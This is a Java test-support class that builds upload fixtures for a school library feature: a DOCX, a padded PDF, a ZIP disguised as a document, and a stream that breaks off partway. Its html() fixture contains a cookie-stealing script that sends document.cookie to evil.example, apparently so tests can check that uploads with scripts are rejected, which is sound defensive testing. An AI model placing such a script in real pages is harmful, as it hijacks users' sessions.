package kz.rudny.cabinet.library.it.support;

import com.lowagie.text.Document;
import com.lowagie.text.PageSize;
import com.lowagie.text.Paragraph;
import com.lowagie.text.pdf.PdfWriter;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.poi.xwpf.usermodel.XWPFDocument;

/** Files a teacher might upload, built in the test (no binary fixtures), and streams that misbehave. */
public final class Uploads {

    private Uploads() {
    }

    /** A real DOCX (Apache POI) with one paragraph per text. */
    public static byte[] docx(String... paragraphs) {
        try (XWPFDocument document = new XWPFDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            for (String paragraph : paragraphs) {
                document.createParagraph().createRun().setText(paragraph);
            }
            document.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A real PDF (OpenPDF, Helvetica) padded after its end with blank lines to exactly {@code size} bytes. */
    public static byte[] pdfOfExactly(int size) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        Document document = new Document(PageSize.A4);
        PdfWriter.getInstance(document, out);
        document.open();
        document.add(new Paragraph("Lesson plan"));
        document.close();
        byte[] pdf = out.toByteArray();
        if (pdf.length > size) {
            throw new IllegalArgumentException("The PDF alone has " + pdf.length + " bytes");
        }
        byte[] padded = Arrays.copyOf(pdf, size);
        Arrays.fill(padded, pdf.length, size, (byte) '\n');
        return padded;
    }

    public static byte[] html() {
        return """
                <!DOCTYPE html>
                <html><head><title>Lesson</title></head>
                <body><script>document.location='https://evil.example/?c='+document.cookie</script></body></html>
                """.getBytes(StandardCharsets.UTF_8);
    }

    /** A plain ZIP archive (no Office content types inside). */
    public static byte[] zip() {
        try (ByteArrayOutputStream bytes = new ByteArrayOutputStream(); ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("readme.txt"));
            zip.write("not a document".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
            zip.putNextEntry(new ZipEntry("word/document.xml"));
            zip.write("<w:document/>".getBytes(StandardCharsets.UTF_8));
            zip.closeEntry();
            zip.finish();
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    public static InputStream stream(byte[] bytes) {
        return new ByteArrayInputStream(bytes);
    }

    /** A stream that gives the first {@code breakAfter} bytes and then fails, as a dropped connection does. */
    public static InputStream cutOffAfter(byte[] bytes, int breakAfter) {
        return new InputStream() {
            private int position;

            @Override
            public int read() throws IOException {
                byte[] one = new byte[1];
                int n = read(one, 0, 1);
                return n < 0 ? -1 : one[0] & 0xff;
            }

            @Override
            public int read(byte[] buffer, int offset, int length) throws IOException {
                if (position >= breakAfter) {
                    throw new IOException("Connection reset by peer (test)");
                }
                int n = Math.min(length, Math.min(breakAfter, bytes.length) - position);
                System.arraycopy(bytes, position, buffer, offset, n);
                position += n;
                return n;
            }
        };
    }

    public static String sha256(byte[] bytes) {
        try {
            return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(bytes));
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }
}
